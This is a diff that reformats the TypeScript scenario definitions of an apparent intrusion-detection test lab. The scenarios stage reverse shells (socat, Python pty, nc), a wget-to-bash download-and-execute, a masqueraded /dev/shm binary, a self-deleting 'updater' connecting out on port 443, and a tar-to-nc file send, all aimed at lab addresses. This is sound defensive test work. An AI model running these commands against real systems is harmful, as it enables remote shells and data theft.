@@ -19,8 +19,7 @@ function text(alert: Alert): string {
 }
 
 function relayed(alert: Alert, shell: string, relay: string, port: number): boolean {
-  return alert.ruleId === 'relayed-shell' && alert.process?.name === shell && alert.evidence.relayName === relay
-    && alert.destination?.port === port;
+  return alert.ruleId === 'relayed-shell' && alert.process?.name === shell && alert.evidence.relayName === relay && alert.destination?.port === port;
 }
 
 async function shellListeners(lab: Lab): Promise<LabProcess> {
@@ -33,7 +32,9 @@ async function staged(lab: Lab, script: string, names: (alert: Alert) => boolean
   const victim = lab.run(NS.victim, ['bash', '-c', script]);
   return {
     names,
-    stop: async () => { await Promise.all([victim, listeners, ...extra].map((p) => p.stop())); },
+    stop: async () => {
+      await Promise.all([victim, listeners, ...extra].map((p) => p.stop()));
+    },
   };
 }
 
@@ -89,8 +90,12 @@ export const SHELL_SCENARIOS: Scenario[] = [
     alsoTrue: SHELL_ALSO_TRUE,
     needs: ['socat'],
     windowMs: 12_000,
-    stage: (lab) => staged(lab, `socat TCP:${ADDR.ext}:${SHELL_PORTS[1]} EXEC:'bash -li',pty,stderr,setsid,sigint,sane`,
-      (a) => relayed(a, 'bash', 'socat', SHELL_PORTS[1]) && a.evidence.kind === 'pty'),
+    stage: (lab) =>
+      staged(
+        lab,
+        `socat TCP:${ADDR.ext}:${SHELL_PORTS[1]} EXEC:'bash -li',pty,stderr,setsid,sigint,sane`,
+        (a) => relayed(a, 'bash', 'socat', SHELL_PORTS[1]) && a.evidence.kind === 'pty',
+      ),
   },
   {
     id: 'shell-socat-exec',
@@ -110,11 +115,12 @@ export const SHELL_SCENARIOS: Scenario[] = [
     alsoTrue: SHELL_ALSO_TRUE,
     needs: ['python3'],
     windowMs: 12_000,
-    stage: (lab) => staged(
-      lab,
-      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("${ADDR.ext}",${SHELL_PORTS[2]}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'`,
-      (a) => relayed(a, 'bash', 'python3', SHELL_PORTS[2]),
-    ),
+    stage: (lab) =>
+      staged(
+        lab,
+        `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("${ADDR.ext}",${SHELL_PORTS[2]}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'`,
+        (a) => relayed(a, 'bash', 'python3', SHELL_PORTS[2]),
+      ),
   },
   {
     id: 'curl-pipe-sh',
@@ -141,8 +147,12 @@ export const SHELL_SCENARIOS: Scenario[] = [
     stage: async (lab) => {
       const server = scriptServer(lab);
       await delay(300);
-      return staged(lab, `wget -qO- http://${SCRIPT_HOST}:${SCRIPT_PORT}/x | cat | bash`,
-        (a) => relayed(a, 'bash', 'wget', SCRIPT_PORT) && Array.isArray(a.evidence.names) && a.evidence.names.length === 3, [server]);
+      return staged(
+        lab,
+        `wget -qO- http://${SCRIPT_HOST}:${SCRIPT_PORT}/x | cat | bash`,
+        (a) => relayed(a, 'bash', 'wget', SCRIPT_PORT) && Array.isArray(a.evidence.names) && a.evidence.names.length === 3,
+        [server],
+      );
     },
   },
   {
@@ -156,9 +166,18 @@ export const SHELL_SCENARIOS: Scenario[] = [
     stage: async (lab) => {
       const exe = `/dev/shm/nslab-kworker-${process.pid}`;
       copyFileSync('/bin/nc.openbsd', exe);
-      const activity = await staged(lab, `${exe} ${ADDR.ext} ${SHELL_PORTS[0]} > /dev/null`,
-        (a) => a.ruleId === 'download-exec' && a.process?.exe === exe && Array.isArray(a.evidence.lineage) && a.evidence.lineage.length >= 2);
-      return { ...activity, stop: async () => { await activity.stop(); rmSync(exe, { force: true }); } };
+      const activity = await staged(
+        lab,
+        `${exe} ${ADDR.ext} ${SHELL_PORTS[0]} > /dev/null`,
+        (a) => a.ruleId === 'download-exec' && a.process?.exe === exe && Array.isArray(a.evidence.lineage) && a.evidence.lineage.length >= 2,
+      );
+      return {
+        ...activity,
+        stop: async () => {
+          await activity.stop();
+          rmSync(exe, { force: true });
+        },
+      };
     },
   },
   {
@@ -174,9 +193,18 @@ export const SHELL_SCENARIOS: Scenario[] = [
       if (!existsSync(dir)) mkdirSync(dir, { recursive: true });
       const exe = join(dir, 'updater');
       copyFileSync('/usr/bin/socat', exe);
-      const activity = await staged(lab, `${exe} TCP:${ADDR.ext}:443 EXEC:sh & sleep 0.5; rm -f ${exe}; wait`,
-        (a) => a.ruleId === 'download-exec' && a.process?.exe === `${exe} (deleted)` && a.evidence.deleted === true);
-      return { ...activity, stop: async () => { await activity.stop(); rmSync(dir, { recursive: true, force: true }); } };
+      const activity = await staged(
+        lab,
+        `${exe} TCP:${ADDR.ext}:443 EXEC:sh & sleep 0.5; rm -f ${exe}; wait`,
+        (a) => a.ruleId === 'download-exec' && a.process?.exe === `${exe} (deleted)` && a.evidence.deleted === true,
+      );
+      return {
+        ...activity,
+        stop: async () => {
+          await activity.stop();
+          rmSync(dir, { recursive: true, force: true });
+        },
+      };
     },
   },
   {
@@ -198,7 +226,12 @@ export const SHELL_SCENARIOS: Scenario[] = [
         `(tar cf - /etc/hostname /etc/os-release 2>/dev/null; sleep 20) | nc ${srv} 22 > /dev/null`,
       ];
       const procs = jobs.map((job) => lab.run(NS.victim, ['bash', '-c', job]));
-      return { names: () => false, stop: async () => { await Promise.all(procs.map((p) => p.stop())); } };
+      return {
+        names: () => false,
+        stop: async () => {
+          await Promise.all(procs.map((p) => p.stop()));
+        },
+      };
     },
   },
 ];
